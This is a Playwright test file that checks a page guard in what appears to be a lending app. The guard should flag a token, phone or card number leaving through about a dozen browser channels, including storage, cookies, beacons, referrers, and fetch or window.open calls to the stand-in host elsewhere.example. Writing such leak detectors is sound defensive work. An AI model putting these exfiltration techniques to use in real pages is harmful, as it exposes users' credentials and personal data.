/** The watch over every journey sees a token or a number that leaves; here it is shown each way of leaving. */
import type { Page } from '@playwright/test';
import { expect, test } from '../src/fixtures.ts';

type LeakCase = { channel: string; leak(page: Page, secret: string): Promise<unknown>; violation: RegExp };

const leaks: readonly LeakCase[] = [
  {
    channel: 'a line of the console',
    leak: (page, secret) => page.evaluate((text) => console.info(`it is ${text}`), secret),
    violation: /left: console info/,
  },
  {
    channel: 'local storage',
    leak: (page, secret) => page.evaluate((text) => localStorage.setItem('kept', text), secret),
    violation: /left: local storage kept/,
  },
  {
    channel: 'a second place of session storage',
    leak: (page, secret) =>
      page.evaluate((text) => sessionStorage.setItem('kept', JSON.stringify({ a: { b: text } })), secret),
    violation: /left: session storage kept/,
  },
  {
    channel: 'a cookie',
    leak: (page, secret) =>
      page.evaluate((text) => {
        document.cookie = `kept=${text}`;
      }, secret),
    violation: /left: cookie/,
  },
  {
    channel: 'the name of the window',
    leak: (page, secret) =>
      page.evaluate((text) => {
        window.name = text;
      }, secret),
    violation: /left: window name/,
  },
  {
    channel: 'the title of the page',
    leak: (page, secret) =>
      page.evaluate((text) => {
        document.title = `Order ${text}`;
      }, secret),
    violation: /left: title/,
  },
  {
    channel: 'the state of the history',
    leak: (page, secret) => page.evaluate((text) => history.replaceState({ key: [text] }, ''), secret),
    violation: /left: history state/,
  },
  {
    channel: 'the name of a database',
    leak: (page, secret) => page.evaluate((text) => void indexedDB.open(text), secret),
    violation: /left: database/,
  },
  {
    channel: 'a request to another origin, which the policy refuses',
    leak: (page, secret) =>
      page.evaluate((text) => void fetch(`https://elsewhere.example/?t=${text}`).catch(() => undefined), secret),
    violation: /left: console error/,
  },
  {
    channel: 'the address of a page of another origin',
    leak: (page, secret) => page.evaluate((text) => void window.open(`https://elsewhere.example/?t=${text}`), secret),
    violation: /left: another origin: https:\/\/elsewhere\.example/,
  },
  {
    channel: 'a request to our own origin that is none of the lender’s',
    leak: (page, secret) =>
      page.evaluate((text) => void fetch(`/shell/nowhere?${encodeURIComponent(text)}`).catch(() => undefined), secret),
    violation: /left: request \/shell\/nowhere/,
  },
  {
    channel: 'a report',
    leak: (page, secret) => page.evaluate((text) => navigator.sendBeacon('/reports', `{"m":"${text}"}`), secret),
    violation: /left: body of \/reports/,
  },
  {
    channel: 'a referrer',
    leak: (page, secret) =>
      page.evaluate(
        (text) =>
          void fetch('/shell/anywhere', {
            referrer: `${location.origin}/x/${text}`,
            referrerPolicy: 'unsafe-url',
          }).catch(() => undefined),
        secret,
      ),
    violation: /left: referrer at \/shell\/anywhere/,
  },
];

/** Cards are known to the watch from the beginning. */
const CARD = '4005519200000004';

for (const { channel, leak, violation } of leaks) {
  test(`the watch notices a token, a telephone and a card number in ${channel}`, async ({
    borrower,
    page,
    pageGuard,
  }) => {
    const { phone } = await borrower.opensScenario('forget');
    await borrower.types(phone, 'Phone number');
    await borrower.taps('Send Verification Code');
    await borrower.sees('Verification code sent!');
    const { token } = await borrower.opensScenario('due-rollover');
    await borrower.seesButton('Rollover Repayment');
    expect(pageGuard.violations()).toEqual([]);
    const violationsOf = (secretKind: string) => () =>
      pageGuard.violations().filter((one) => violation.test(one) && one.startsWith(secretKind));

    for (const [secretKind, secret] of [
      ['a token', token],
      ['a number', phone],
    ] as const) {
      await leak(page, secret);
      await expect
        .poll(() => violationsOf(secretKind)().length, { message: `${secretKind} in ${channel}` })
        .toBeGreaterThan(0);
    }
    pageGuard.reset();
    await leak(page, CARD);
    await expect.poll(() => violationsOf('a number')().length, { message: `a card in ${channel}` }).toBeGreaterThan(0);
    pageGuard.allow(/./);
  });
}

test('the watch notices a number that a navigation writes into the address', async ({ borrower, page, pageGuard }) => {
  await borrower.opensScenario('due-rollover');
  await borrower.seesButton('Rollover Repayment');
  await page.evaluate((card) => history.replaceState(null, '', `/order?card=${card}`), CARD);
  await expect.poll(() => pageGuard.violations()).toContain('a number left: page address in history');
  pageGuard.allow(/./);
});

test('the watch is over every window of the phone', async ({ borrower, context, page, pageGuard }) => {
  await borrower.opensUrl('/nowhere');
  await borrower.seesHeading('There is no page at this address');
  const second = await context.newPage();
  await second.goto('/nowhere');
  await second.evaluate((card) => localStorage.setItem('kept', card), CARD);
  await second.evaluate(() => setTimeout(() => Promise.reject(new Error('in the second window'))));
  await expect.poll(() => pageGuard.violations()).toContain('a number left: local storage kept');
  await expect.poll(() => pageGuard.violations().join()).toContain('uncaught: in the second window');
  expect(page.url()).toContain('/nowhere');
  pageGuard.allow(/./);
});
